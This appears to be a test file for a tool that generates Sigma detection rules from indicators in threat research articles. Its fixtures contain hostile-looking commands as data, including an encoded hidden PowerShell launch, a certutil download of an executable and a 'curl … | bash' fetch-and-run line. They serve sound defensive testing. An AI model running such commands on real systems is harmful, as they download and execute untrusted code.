import { load } from 'js-yaml';
import { distinctiveTokens, generateBuiltinRules, type BuiltinSigmaInput } from './builtin-sigma-agent';
import { stableRuleId } from './rule-draft';

function must<T>(value: T | undefined | null): T {
  if (value === undefined || value === null) throw new Error('expected a value');
  return value;
}

const article = { title: 'Tracking the Loader campaign', url: 'https://research.example.org/loader', date: '2026-11-21' };
const evidence = { start: 0, end: 10, text: 'x' };
const item = { evidence, confidence: 0.9 };

const input: BuiltinSigmaInput = {
  article,
  platform: 'windows',
  cmdlines: [
    { ...item, value: 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', executable: 'powershell.exe' },
    { ...item, value: 'certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe', executable: 'certutil.exe' },
    { ...item, value: 'whoami', executable: 'whoami' },
  ],
  processPairs: [{ ...item, value: 'winword.exe -> powershell.exe', parent: 'WINWORD.EXE', child: 'powershell.exe' }],
  registryKeys: [{ ...item, value: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', hive: 'HKCU', path: 'Software\\Microsoft\\Windows\\CurrentVersion\\Run', value_name: 'Updater' }],
  services: [{ ...item, value: 'WinSvcHelper', binary_path: 'C:\\ProgramData\\svc\\helper.exe' }],
  scheduledTasks: [{ ...item, value: 'OneDriveSync' }],
  network: [
    { ...item, value: '203.0.113.7', kind: 'ipv4' },
    { ...item, value: 'update-cdn.example.net', kind: 'domain' },
    { ...item, value: 'https://files.example.com/payload.bin', kind: 'url' },
  ],
};

type Rule = { title: string; id: string; status: string; description: string; references: string[]; author: string; date: string; tags?: string[]; logsource: Record<string, string>; detection: Record<string, unknown>; level: string; falsepositives: string[] };

describe('builtin SigmaAgent templates', () => {
  const drafts = generateBuiltinRules(input);
  const rules = drafts.map((draft) => ({ draft, rule: load(draft.yaml) as Rule }));

  it('writes one rule per telemetry class group with the metadata every rule carries', () => {
    expect(drafts.map((draft) => draft.telemetryClass)).toEqual([
      'process_creation',
      'process_creation',
      'registry_set',
      'service_creation',
      'scheduled_task_creation',
      'network_connection',
      'dns_query',
    ]);
    for (const { rule } of rules) {
      expect(rule.status).toBe('experimental');
      expect(rule.references).toEqual([article.url]);
      expect(rule.description).toContain(article.title);
      expect(rule.date).toBe('2026-11-21');
      expect(rule.id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
      expect(rule.falsepositives.length).toBeGreaterThan(0);
      expect(typeof rule.detection['condition']).toBe('string');
    }
  });

  it('builds command-line selections from verbatim, distinctive arguments and skips a bare command', () => {
    const cmd = must(rules[0]).rule;
    expect(cmd.logsource).toEqual({ category: 'process_creation', product: 'windows' });
    expect(cmd.detection['condition']).toBe('1 of selection_*');
    expect(cmd.detection['selection_1']).toEqual({
      'Image|endswith': '\\powershell.exe',
      'CommandLine|contains': 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
    });
    expect(cmd.detection['selection_2']).toMatchObject({ 'Image|endswith': '\\certutil.exe' });
    expect(cmd.detection['selection_3']).toBeUndefined();
    for (const value of must(rules[0]).draft.detectionValues.filter((v) => !v.startsWith('\\'))) {
      expect(must(input.cmdlines).some((c) => c.value.includes(value))).toBe(true);
    }
    expect(cmd.tags).toEqual(['attack.command-and-control', 'attack.execution', 'attack.t1059.001', 'attack.t1105']);
    expect(cmd.level).toBe('high');
  });

  it('maps lineage, registry, service, task and network observables to their classes', () => {
    const byClass = Object.fromEntries(rules.map(({ draft, rule }) => [draft.telemetryClass + (draft.title.startsWith('Suspicious') ? ':lineage' : ''), rule]));
    expect(must(byClass['process_creation:lineage']).detection['selection']).toEqual({ 'ParentImage|endswith': '\\WINWORD.EXE', 'Image|endswith': '\\powershell.exe' });
    expect(must(byClass['registry_set']).detection['selection']).toEqual({
      'TargetObject|contains': '\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
      'TargetObject|endswith': '\\Updater',
    });
    expect(must(byClass['registry_set']).tags).toEqual(['attack.persistence', 'attack.t1547.001']);
    expect(must(byClass['service_creation']).detection['selection']).toEqual({
      Provider_Name: 'Service Control Manager',
      EventID: 7045,
      'ImagePath|contains': 'C:\\ProgramData\\svc\\helper.exe',
    });
    expect(must(byClass['scheduled_task_creation']).detection['selection']).toEqual({ EventID: 4698, 'TaskName|endswith': '\\OneDriveSync' });
    expect(must(byClass['network_connection']).detection['selection']).toEqual({ DestinationIp: ['203.0.113.7'] });
    expect(must(byClass['dns_query']).detection['selection']).toEqual({ QueryName: ['update-cdn.example.net', 'files.example.com'] });
  });

  it('skips Windows-only classes for a Linux article and uses the linux product', () => {
    const linux = generateBuiltinRules({ ...input, platform: 'linux', cmdlines: [{ ...item, value: 'curl -fsSL http://198.51.100.4/x.sh | bash', executable: 'curl' }] });
    const classes = linux.map((draft) => draft.telemetryClass);
    expect(classes).not.toContain('registry_set');
    expect(classes).not.toContain('service_creation');
    const cmd = load(must(linux[0]).yaml) as Rule;
    expect(cmd.logsource.product).toBe('linux');
    expect(cmd.detection['selection']).toMatchObject({ 'Image|endswith': '/curl', 'CommandLine|contains': 'http://198.51.100.4/x.sh' });
  });

  it('is deterministic: the same input gives the same ids and YAML', () => {
    expect(generateBuiltinRules(input).map((draft) => draft.yaml)).toEqual(drafts.map((draft) => draft.yaml));
    expect(stableRuleId('a')).not.toBe(stableRuleId('b'));
  });

  it('splits more than five selections into several rules', () => {
    const many = Array.from({ length: 7 }, (_, index) => ({ ...item, value: `rundll32.exe C:\\Temp\\mod${index}.dll,Start`, executable: 'rundll32.exe' }));
    const split = generateBuiltinRules({ article, platform: 'windows', cmdlines: many });
    expect(split).toHaveLength(2);
    expect(must(split[1]).title).toContain('(part 2)');
  });

  it('picks path, URL and encoded arguments over switches', () => {
    expect(distinctiveTokens('schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc onlogon')).toEqual(['C:\\Users\\Public\\u.exe']);
    expect(distinctiveTokens('net user')).toEqual([]);
    expect(distinctiveTokens('powershell -EncodedCommand')).toEqual(['-EncodedCommand']);
  });
});
